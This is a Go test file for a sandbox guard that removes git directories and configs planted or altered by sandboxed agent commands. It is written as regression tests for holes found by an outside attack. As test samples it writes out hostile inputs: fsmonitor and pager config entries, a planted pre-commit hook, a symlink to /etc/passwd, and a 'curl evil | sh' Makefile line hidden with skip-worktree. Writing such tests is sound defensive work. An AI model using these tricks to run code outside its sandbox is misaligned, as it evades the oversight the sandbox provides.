package gitguard

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agentbox/agentbox/internal/policytest"
	"github.com/agentbox/agentbox/policy"
)

// Holes an outside attack found in the guard (issue 21, round 5), each a
// window the way a run makes one.

// TestGuardBareShapes: directories git's is_git_directory accepts although
// they lack a plain objects/ and refs/ of their own.
func TestGuardBareShapes(t *testing.T) {
	oid := strings.Repeat("A", 40) + "\nanything git ignores\n"
	cases := map[string]func(t *testing.T, d string){
		// commondir names the directory that holds objects and refs
		// (and the config git reads).
		"commondir": func(t *testing.T, d string) {
			fakeRepo(t, d+"-common")
			must(t, os.Remove(filepath.Join(d+"-common", "HEAD")))
			must(t, os.MkdirAll(d, 0o755))
			must(t, os.WriteFile(filepath.Join(d, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
			must(t, os.WriteFile(filepath.Join(d, "commondir"), []byte("../"+filepath.Base(d)+"-common\n"), 0o644))
		},
		// access(2) follows a symlink, and finds an executable file
		// searchable.
		"symlinked objects, file refs": func(t *testing.T, d string) {
			must(t, os.MkdirAll(d+"-objs", 0o755))
			must(t, os.MkdirAll(d, 0o755))
			must(t, os.Symlink("../"+filepath.Base(d)+"-objs", filepath.Join(d, "objects")))
			must(t, os.WriteFile(filepath.Join(d, "refs"), nil, 0o755))
			must(t, os.WriteFile(filepath.Join(d, "HEAD"), []byte("ref: \trefs/heads/main\n"), 0o644))
			must(t, os.WriteFile(filepath.Join(d, "config"), []byte("[core]\n\tpager = ./x\n"), 0o644))
		},
		// get_oid_hex_any reads an upper-case object id and ignores what
		// follows it.
		"upper-case HEAD with a tail": func(t *testing.T, d string) {
			fakeRepo(t, d)
			must(t, os.WriteFile(filepath.Join(d, "HEAD"), []byte(oid), 0o644))
		},
	}
	for name, plant := range cases {
		for _, watched := range []bool{false, true} {
			t.Run(name+map[bool]string{false: "/walk", true: "/watcher"}[watched], func(t *testing.T) {
				ws, state, pol := guarded(t, watched, false, nil)
				g, err := Begin(pol, state)
				must(t, err)
				plant(t, filepath.Join(ws, "a/plant"))
				notes, err := g.End()
				must(t, err)
				if _, err := os.Lstat(filepath.Join(ws, "a/plant/HEAD")); !errors.Is(err, os.ErrNotExist) {
					t.Errorf("the planted git directory keeps its HEAD (%v); notes %q", err, notes)
				}
			})
		}
	}
}

// TestGuardCoarseTimes: on a file system that keeps whole seconds, a
// change in the window's first second is stamped before the window's
// start; it still counts as changed.
func TestGuardCoarseTimes(t *testing.T) {
	since := time.Unix(1700000000, 600_000_000)
	coarse := info{ctime: time.Unix(1700000000, 0), mtime: time.Unix(1700000000, 0), atime: time.Unix(1699999000, 0)}
	if !coarse.changed(since) || !coarse.born(since) {
		t.Error("a change stamped in the window's first second counts as older than the window")
	}
	if (info{ctime: time.Unix(1699999999, 0)}).changed(since) {
		t.Error("a change a second before the window counts as the command's")
	}
	fine := info{ctime: time.Unix(1700000000, 599_999_999), mtime: time.Unix(1700000000, 123_456_789)}
	if fine.changed(since) {
		t.Error("on a fine-grained file system, a change before the window counts as the command's")
	}
}

// TestGuardWatchedFileLinkedOutside: a file of a git directory written
// through a hard link outside every watched root (a shared $TMPDIR) is
// seen by a session's sparse check.
func TestGuardWatchedFileLinkedOutside(t *testing.T) {
	ws, state, outside := t.TempDir(), t.TempDir(), t.TempDir()
	fakeRepo(t, filepath.Join(ws, ".git"))
	fakeRepo(t, filepath.Join(ws, "mine/.git"))
	alias := filepath.Join(outside, "alias")
	must(t, os.Link(filepath.Join(ws, "mine/.git/config"), alias))
	time.Sleep(30 * time.Millisecond)
	pol := testPolicy(ws, false)
	defer Watch(Roots(pol))()
	time.Sleep(30 * time.Millisecond)
	g, err := Begin(pol, state)
	must(t, err)
	f, err := os.OpenFile(alias, os.O_WRONLY|os.O_APPEND, 0)
	must(t, err)
	f.WriteString("\tfsmonitor = /tmp/evil\n")
	f.Close()
	notes, err := g.End()
	must(t, err)
	if _, err := os.Lstat(filepath.Join(ws, "mine/.git")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a config written through a link outside the root survives a watched check (%v); notes %q", err, notes)
	}
}

// nestedPolicy is a policy over root whose protected paths are each
// .git named, read-only, or opened with gitWrites.
func nestedPolicy(root string, gitWrites, degraded bool, gitdirs ...string) *policy.Policy {
	var prs []policy.Protected
	for _, g := range gitdirs {
		prs = append(prs, policy.Protected{Path: g, Kind: policy.Dir, Root: root, Why: ".git in " + root})
	}
	return policytest.New(policytest.Fields{
		Mode: policy.WorkspaceWrite, Cwd: root, WritableRoots: []string{root},
		Protected: prs, ProtectedNames: []string{".git"}, AllowGitWrites: gitWrites, AllowDegraded: degraded,
	})
}

// TestGuardOverlapExposed: a run of ws (which may write ws/sub/.git:
// sub's repository is not its root's) and a run of ws/sub (which keeps
// it read-only, or opened with allow_git_writes) overlap in either
// order and end in either order; what the ws run wrote in ws/sub/.git's
// config never passes as the user's.
func TestGuardOverlapExposed(t *testing.T) {
	for _, gitWrites := range []bool{false, true} {
		for _, innerFirst := range []bool{false, true} {
			for _, innerEndsFirst := range []bool{false, true} {
				name := map[bool]string{false: "read-only", true: "git-writes"}[gitWrites] +
					map[bool]string{false: "/outer-first", true: "/inner-first"}[innerFirst] +
					map[bool]string{false: "/outer-ends-first", true: "/inner-ends-first"}[innerEndsFirst]
				t.Run(name, func(t *testing.T) {
					ws, state := t.TempDir(), t.TempDir()
					fakeRepo(t, filepath.Join(ws, ".git"))
					sub := filepath.Join(ws, "sub")
					fakeRepo(t, filepath.Join(sub, ".git"))
					time.Sleep(30 * time.Millisecond)
					outer := nestedPolicy(ws, false, false, filepath.Join(ws, ".git"))
					inner := nestedPolicy(sub, gitWrites, false, filepath.Join(sub, ".git"))
					var gi, go_ *Guard
					var err error
					if innerFirst {
						gi, err = Begin(inner, state)
						must(t, err)
					}
					go_, err = Begin(outer, state)
					must(t, err)
					if !innerFirst {
						gi, err = Begin(inner, state)
						must(t, err)
					}
					f, err := os.OpenFile(filepath.Join(sub, ".git/config"), os.O_WRONLY|os.O_APPEND, 0)
					must(t, err)
					f.WriteString("\tfsmonitor = /tmp/evil\n")
					f.Close()
					first, second := go_, gi
					if innerEndsFirst {
						first, second = gi, go_
					}
					n1, err := first.End()
					must(t, err)
					n2, err := second.End()
					must(t, err)
					if _, err := os.Lstat(filepath.Join(sub, ".git/config")); !errors.Is(err, os.ErrNotExist) {
						t.Errorf("the config the outer run wrote in %s survives (%v); notes %q %q", sub, err, n1, n2)
					}
				})
			}
		}
	}
}

// TestGuardOverlapOwnHandedOn: a run with allow_git_writes in ws/sub
// leaves a symlink in its own git directory and ends while a run of ws
// still holds ws; the ws run's check repairs ws/sub/.git as the inner
// run's own (the inner run's check is handed on, baselines and all).
func TestGuardOverlapOwnHandedOn(t *testing.T) {
	ws, state := t.TempDir(), t.TempDir()
	fakeRepo(t, filepath.Join(ws, ".git"))
	sub := filepath.Join(ws, "sub")
	fakeRepo(t, filepath.Join(sub, ".git"))
	time.Sleep(30 * time.Millisecond)
	outer := nestedPolicy(ws, false, false, filepath.Join(ws, ".git"), filepath.Join(sub, ".git"))
	inner := nestedPolicy(sub, true, false, filepath.Join(sub, ".git"))
	go_, err := Begin(outer, state)
	must(t, err)
	gi, err := Begin(inner, state)
	must(t, err)
	must(t, os.Symlink("/etc/passwd", filepath.Join(sub, ".git/logs/HEAD")))
	n1, err := gi.End()
	must(t, err)
	n2, err := go_.End()
	must(t, err)
	if _, err := os.Lstat(filepath.Join(sub, ".git/logs/HEAD")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the symlink the inner run left in its git directory survives (%v); notes %q %q", err, n1, n2)
	}
	if _, err := os.Lstat(filepath.Join(sub, ".git/HEAD")); err != nil {
		t.Errorf("the inner root's repository was moved rather than repaired: %v; notes %q %q", err, n1, n2)
	}
}

// TestGuardDegradedChecksProtected: a run that may go degraded (no user
// namespaces: Landlock keeps nothing inside a writable root read-only)
// has its root's .git checked like any nested repository.
func TestGuardDegradedChecksProtected(t *testing.T) {
	for _, gitWrites := range []bool{false, true} {
		ws, state := t.TempDir(), t.TempDir()
		fakeRepo(t, filepath.Join(ws, ".git"))
		time.Sleep(30 * time.Millisecond)
		pol := nestedPolicy(ws, gitWrites, true, filepath.Join(ws, ".git"))
		g, err := Begin(pol, state)
		must(t, err)
		must(t, os.WriteFile(filepath.Join(ws, ".git/hooks/pre-commit"), []byte("#!/bin/sh\n"), 0o755))
		notes, err := g.End()
		must(t, err)
		if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/pre-commit")); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("git-writes=%v: a hook written in a degraded run's protected .git survives (%v); notes %q", gitWrites, err, notes)
		}
	}
}

// TestGuardWatcherPlaceholderRename: each command of a session renames
// agentbox's empty placeholder directories into the root and out again;
// that must not blind the watcher (every later check walked the whole
// root: 1.3 s a command at 100,000 directories), while a directory with
// directories below it that moves still makes the next check walk.
func TestGuardWatcherPlaceholderRename(t *testing.T) {
	ws, state, pol := guarded(t, true, false, func(t *testing.T, ws string) {
		must(t, os.MkdirAll(filepath.Join(ws, "a/b/c"), 0o755))
	})
	pool := filepath.Join(t.TempDir(), "pool")
	window := func(during func()) (sparse bool) {
		scanTrace = func(root string, sp bool, dirs int) { sparse = sp }
		defer func() { scanTrace = nil }()
		g, err := Begin(pol, state)
		must(t, err)
		during()
		_, err = g.End()
		must(t, err)
		return sparse
	}
	for i := range 3 {
		must(t, os.Mkdir(pool, 0o755))
		if !window(func() {
			must(t, os.Rename(pool, filepath.Join(ws, ".claude")))
			must(t, os.Rename(filepath.Join(ws, ".claude"), pool))
		}) {
			t.Errorf("round %d: a placeholder's renames made the check walk everything", i)
		}
		must(t, os.Remove(pool))
	}
	window(func() { must(t, os.Rename(filepath.Join(ws, "a"), filepath.Join(ws, "z"))) })
	window(func() {}) // after a move, a later window may be sparse again
	sparse := window(func() {
		must(t, os.Rename(filepath.Join(ws, "z"), filepath.Join(ws, "y")))
	})
	if sparse {
		t.Error("a directory with directories below it moved, and the check did not walk everything")
	}
}

// TestGuardRepoInsideGitDir: git's discovery from a directory inside a
// git directory finds a .git (or a directory laid out as a git
// directory) there first; one the command made inside a repository that
// was there before, or inside the root's own .git (allow_git_writes),
// is not trusted.
func TestGuardRepoInsideGitDir(t *testing.T) {
	cases := []struct {
		name      string
		gitWrites bool
		before    func(t *testing.T, ws string)
		during    func(t *testing.T, ws string)
		absent    string
	}{
		{"nested repo's .git", false,
			func(t *testing.T, ws string) { fakeRepo(t, filepath.Join(ws, "mine/.git")) },
			func(t *testing.T, ws string) { fakeRepo(t, filepath.Join(ws, "mine/.git/deep/er/.git")) },
			"mine/.git"},
		{"bare repo", false,
			func(t *testing.T, ws string) { fakeRepo(t, filepath.Join(ws, "bare.git")) },
			func(t *testing.T, ws string) { fakeRepo(t, filepath.Join(ws, "bare.git/x")) },
			"bare.git/HEAD"},
		{"root's own .git", true, nil,
			func(t *testing.T, ws string) { fakeRepo(t, filepath.Join(ws, ".git/refs/x/.git")) },
			".git/refs/x/.git"},
		{"root's own .git, bare-shaped", true, nil,
			func(t *testing.T, ws string) { fakeRepo(t, filepath.Join(ws, ".git/refs/y")) },
			".git/refs/y"},
	}
	for _, c := range cases {
		for _, watched := range []bool{false, true} {
			t.Run(c.name+map[bool]string{false: "/walk", true: "/watcher"}[watched], func(t *testing.T) {
				ws, state, pol := guarded(t, watched, c.gitWrites, c.before)
				g, err := Begin(pol, state)
				must(t, err)
				c.during(t, ws)
				notes, err := g.End()
				must(t, err)
				if _, err := os.Lstat(filepath.Join(ws, c.absent)); !errors.Is(err, os.ErrNotExist) {
					t.Errorf("%s is still there (%v); notes %q", c.absent, err, notes)
				}
				if _, err := os.Stat(filepath.Join(ws, ".git/HEAD")); err != nil {
					t.Errorf("the root's own repository was moved: %v", err)
				}
			})
		}
	}
}

// TestGuardTaintedBaseline: a run of ws marks a file of ws/sub's index
// skip-worktree (git status then never shows its changes) and rewrites
// the file; a run of ws/sub with allow_git_writes starts after that. Its
// baseline must not take the mark for the user's.
func TestGuardTaintedBaseline(t *testing.T) {
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	ws, state := t.TempDir(), t.TempDir()
	fakeRepo(t, filepath.Join(ws, ".git"))
	sub := filepath.Join(ws, "sub")
	gitIn := func(args ...string) {
		t.Helper()
		cmd := exec.Command(git, append([]string{"-C", sub}, args...)...)
		cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b", "HOME="+state)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v: %s", args, err, out)
		}
	}
	must(t, os.MkdirAll(sub, 0o755))
	gitIn("init", "-q")
	must(t, os.WriteFile(filepath.Join(sub, "Makefile"), []byte("all:\n"), 0o644))
	gitIn("add", "Makefile")
	gitIn("commit", "-qm", "x")
	time.Sleep(30 * time.Millisecond)
	outer := nestedPolicy(ws, false, false, filepath.Join(ws, ".git"))
	inner := nestedPolicy(sub, true, false, filepath.Join(sub, ".git"))
	go_, err := Begin(outer, state)
	must(t, err)
	gitIn("update-index", "--skip-worktree", "Makefile")
	must(t, os.WriteFile(filepath.Join(sub, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644))
	gi, err := Begin(inner, state)
	must(t, err)
	n1, err := go_.End()
	must(t, err)
	n2, err := gi.End()
	must(t, err)
	if _, err := os.Lstat(filepath.Join(sub, ".git/index")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the index the outer run marked skip-worktree is trusted (%v); notes %q %q", err, n1, n2)
	}
}

// TestGuardOddPlants: a .git that is a FIFO or a socket, a bare shape
// whose HEAD is a FIFO (the check must not block on it), and a
// repository in a directory the command made mode 0000.
func TestGuardOddPlants(t *testing.T) {
	cases := map[string]struct {
		plant  func(t *testing.T, ws string)
		absent string
	}{
		"fifo .git": {func(t *testing.T, ws string) {
			must(t, os.MkdirAll(filepath.Join(ws, "f"), 0o755))
			must(t, syscall.Mkfifo(filepath.Join(ws, "f/.git"), 0o644))
		}, "f/.git"},
		"fifo HEAD": {func(t *testing.T, ws string) {
			fakeRepo(t, filepath.Join(ws, "h"))
			must(t, os.Remove(filepath.Join(ws, "h/HEAD")))
			must(t, syscall.Mkfifo(filepath.Join(ws, "h/HEAD"), 0o644))
		}, "h/HEAD"},
		"mode 0000 parent": {func(t *testing.T, ws string) {
			fakeRepo(t, filepath.Join(ws, "z/.git"))
			must(t, os.Chmod(filepath.Join(ws, "z"), 0))
		}, "z/.git"},
	}
	for name, c := range cases {
		for _, watched := range []bool{false, true} {
			t.Run(name+map[bool]string{false: "/walk", true: "/watcher"}[watched], func(t *testing.T) {
				ws, state, pol := guarded(t, watched, false, nil)
				g, err := Begin(pol, state)
				must(t, err)
				c.plant(t, ws)
				done := make(chan struct{})
				var notes []string
				go func() { defer close(done); notes, err = g.End() }()
				select {
				case <-done:
				case <-time.After(10 * time.Second):
					t.Fatal("the check blocked")
				}
				must(t, err)
				os.Chmod(filepath.Join(ws, "z"), 0o755)
				if _, err := os.Lstat(filepath.Join(ws, c.absent)); !errors.Is(err, os.ErrNotExist) {
					t.Errorf("%s is still there (%v); notes %q", c.absent, err, notes)
				}
			})
		}
	}
}

// TestGuardRepoAssembledOverRuns: a command lays out parts of a
// repository over several runs, none of which holds one git would take,
// and in the last renames it to a .git that looks older than that run.
func TestGuardRepoAssembledOverRuns(t *testing.T) {
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	mkdir := func(p string) func(t *testing.T, ws string) {
		return func(t *testing.T, ws string) { must(t, os.MkdirAll(filepath.Join(ws, p), 0o755)) }
	}
	config := func(t *testing.T, ws string) {
		must(t, os.MkdirAll(filepath.Join(ws, "foo"), 0o755))
		must(t, os.WriteFile(filepath.Join(ws, "foo/config"), []byte("[core]\n\tbare = false\n\tfsmonitor = /planted\n"), 0o644))
	}
	finish := func(t *testing.T, ws string) {
		must(t, os.WriteFile(filepath.Join(ws, "foo/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
		must(t, os.MkdirAll(filepath.Join(ws, "sub"), 0o755))
		must(t, os.Rename(filepath.Join(ws, "foo"), filepath.Join(ws, "sub/.git")))
	}
	variants := map[string][][]func(t *testing.T, ws string){
		"refs in a run of its own": {{config, mkdir("foo/objects")}, {mkdir("foo/refs")}, {finish}},
		"refs with the rename":     {{config, mkdir("foo/objects")}, {mkdir("foo/refs"), finish}},
		"one part a run":           {{config}, {mkdir("foo/objects")}, {mkdir("foo/refs")}, {finish}},
	}
	for name, runs := range variants {
		for _, watched := range []bool{false, true} {
			t.Run(name+map[bool]string{false: "/walk", true: "/watcher"}[watched], func(t *testing.T) {
				ws, state, pol := guarded(t, watched, false, nil)
				var notes []string
				for _, run := range runs {
					g, err := Begin(pol, state)
					must(t, err)
					for _, step := range run {
						step(t, ws)
					}
					n, err := g.End()
					must(t, err)
					notes = append(notes, n...)
					time.Sleep(30 * time.Millisecond)
				}
				if _, err := os.Stat(filepath.Join(ws, "sub")); err != nil {
					return // nothing left to run git in
				}
				cmd := exec.Command(git, "-C", filepath.Join(ws, "sub"), "config", "core.fsmonitor")
				cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+state)
				out, _ := cmd.Output()
				if strings.TrimSpace(string(out)) == "/planted" {
					t.Errorf("git in sub reads the config assembled over %d runs; notes %q", len(runs), notes)
				}
			})
		}
	}
}

// TestGuardWatchMissingRoot: a session's root that does not exist when
// the session starts (a private /tmp's host directory, made by its first
// command) is not answered for by a watcher of nothing: what a command
// plants there once it exists is found, and later checks watch it.
func TestGuardWatchMissingRoot(t *testing.T) {
	parent, state := t.TempDir(), t.TempDir()
	ws := filepath.Join(parent, "later")
	pol := testPolicy(ws, false)
	defer Watch(Roots(pol))()
	must(t, os.Mkdir(ws, 0o755))
	time.Sleep(30 * time.Millisecond)
	for i := range 3 {
		sparse := false
		scanTrace = func(root string, sp bool, dirs int) { sparse = sp }
		g, err := Begin(pol, state)
		must(t, err)
		fakeRepo(t, filepath.Join(ws, fmt.Sprintf("p%d/.git", i)))
		notes, err := g.End()
		scanTrace = nil
		must(t, err)
		if _, err := os.Lstat(filepath.Join(ws, fmt.Sprintf("p%d/.git", i))); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("round %d: the repository planted in a root that appeared after the watcher asked survives (%v); notes %q", i, err, notes)
		}
		if i == 2 && !sparse {
			t.Error("the root that appeared is still walked whole, not watched")
		}
		time.Sleep(30 * time.Millisecond)
	}
}

// TestGuardEmptyDotGit: an empty .git made during the window (agentbox's
// own placeholder for a missing one, from a session being prepared) is
// left alone; filled in a later window, it is moved aside.
func TestGuardEmptyDotGit(t *testing.T) {
	ws, state := t.TempDir(), t.TempDir()
	fakeRepo(t, filepath.Join(ws, ".git"))
	pol := nestedPolicy(ws, false, false, filepath.Join(ws, ".git"))
	sub := filepath.Join(ws, "sub")
	must(t, os.MkdirAll(sub, 0o755))
	time.Sleep(30 * time.Millisecond)
	g, err := Begin(pol, state)
	must(t, err)
	must(t, os.Mkdir(filepath.Join(sub, ".git"), 0o555))
	notes, err := g.End()
	must(t, err)
	if _, err := os.Stat(filepath.Join(sub, ".git")); err != nil {
		t.Fatalf("the empty .git was moved (%v); notes %q", err, notes)
	}
	time.Sleep(30 * time.Millisecond)
	g, err = Begin(pol, state)
	must(t, err)
	must(t, os.Chmod(filepath.Join(sub, ".git"), 0o755))
	fakeRepo(t, filepath.Join(sub, ".git"))
	notes, err = g.End()
	must(t, err)
	if _, err := os.Lstat(filepath.Join(sub, ".git")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a .git filled in a later window stayed (%v); notes %q", err, notes)
	}
}
